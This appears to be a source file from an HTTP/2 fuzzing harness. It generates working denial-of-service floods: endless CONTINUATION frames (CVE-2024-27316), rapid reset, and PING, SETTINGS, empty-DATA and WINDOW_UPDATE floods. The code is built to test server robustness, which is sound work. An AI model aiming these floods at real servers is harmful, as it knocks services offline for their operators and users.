// Floods: one HTTP/2 frame (or pair) repeated many times on one connection, the cheap attacks of
// issue 9 section 2: zero-length CONTINUATION frames that never end a header block
// (CVE-2024-27316), PING and SETTINGS frames whose answers the client never reads, rapid reset
// (HEADERS then RST_STREAM), empty DATA frames and WINDOW_UPDATEs. Repeated frames are counted as
// flood frames, apart from the inputs, so that they cannot make up the campaign's input count.
import type { GenContext } from './context.ts';
import { CLIENT_PREFACE, Flag, FrameType, frame, settings, u32 } from './h2-frames.ts';
import { FuzzHpackEncoder } from './hpack-fuzz.ts';
import { tagOf, type Channel, type ConnPlan, type Step } from './plan.ts';

/** Repeats `unit` `count` times in writes of about 64 KiB. */
function repeated(unit: Buffer, count: number, unitFrames: number): Step[] {
  const perWrite = Math.max(1, Math.floor(65_536 / unit.length));
  const chunk = Buffer.concat(Array.from({ length: Math.min(perWrite, count) }, () => unit));
  const steps: Step[] = [];
  for (let left = count; left > 0; left -= perWrite) {
    const n = Math.min(perWrite, left);
    steps.push({
      write: n === perWrite ? chunk : chunk.subarray(0, n * unit.length),
      inputs: 0,
      flood: n * unitFrames,
    });
  }
  return steps;
}

export const FLOOD_KINDS = [
  'continuation',
  'ping',
  'settings',
  'rapid-reset',
  'empty-data',
  'window-update',
] as const;
export type FloodKind = (typeof FLOOD_KINDS)[number];

/** A flood of `kind` on one connection; `scale` (0..1] sizes it. */
export function floodPlan(
  ctx: GenContext,
  planIndex: number,
  channel: Channel,
  kind: FloodKind,
  scale = 1,
): ConnPlan {
  const { rng } = ctx;
  const hpack = new FuzzHpackEncoder();
  const tag = tagOf(ctx.batch, planIndex, 0);
  const fields: [string, string][] = [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', '/flood'],
    [':authority', ctx.authorities[0]!],
    ['x-fuzz', tag],
  ];
  const start: Buffer[] = [CLIENT_PREFACE, settings([]), settings([], true)];
  const head: Step = { write: Buffer.concat(start), inputs: 2 };
  const n = (max: number) => Math.max(1, Math.floor(max * scale * (0.5 + rng.int(500) / 1000)));
  let body: Step[];
  let noRead = false;
  switch (kind) {
    case 'continuation': {
      const block = hpack.encode(rng, fields);
      const open = frame(FrameType.HEADERS, Flag.END_STREAM, 1, block.subarray(0, block.length - 1));
      body = [{ write: open, inputs: 1 }, ...repeated(frame(FrameType.CONTINUATION, 0, 1), n(400_000), 1)];
      break;
    }
    case 'ping':
      noRead = true;
      body = repeated(frame(FrameType.PING, 0, 0, Buffer.alloc(8)), n(400_000), 1);
      break;
    case 'settings':
      noRead = true;
      body = repeated(settings([]), n(300_000), 1);
      break;
    case 'rapid-reset': {
      // The same literal block every time: no dynamic-table insert (HPACK state stays trivial).
      const block = Buffer.concat([
        Buffer.from([0x82, 0x86]),
        literal(':path', '/reset'),
        literal(':authority', ctx.authorities[0]!),
        literal('x-fuzz', tag),
      ]);
      const units: Buffer[] = [];
      const count = n(3_000);
      for (let i = 0, id = 1; i < count; i++, id += 2) {
        units.push(frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, block));
        units.push(frame(FrameType.RST_STREAM, 0, id, u32(8)));
      }
      body = [{ write: Buffer.concat(units), inputs: 0, flood: units.length }];
      break;
    }
    case 'empty-data': {
      const open = frame(
        FrameType.HEADERS,
        Flag.END_HEADERS,
        1,
        hpack.encode(rng, [[':method', 'POST'], ...fields.slice(1)]),
      );
      body = [{ write: open, inputs: 1 }, ...repeated(frame(FrameType.DATA, 0, 1), n(400_000), 1)];
      break;
    }
    default:
      body = repeated(frame(FrameType.WINDOW_UPDATE, 0, 0, u32(1)), n(400_000), 1);
  }
  const steps: Step[] = [head, ...body, { waitMs: 300 }, { end: true }];
  return { channel, steps, note: `flood: ${kind}`, noRead };
}

/** A literal field without indexing, literal name (the simplest HPACK there is). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}
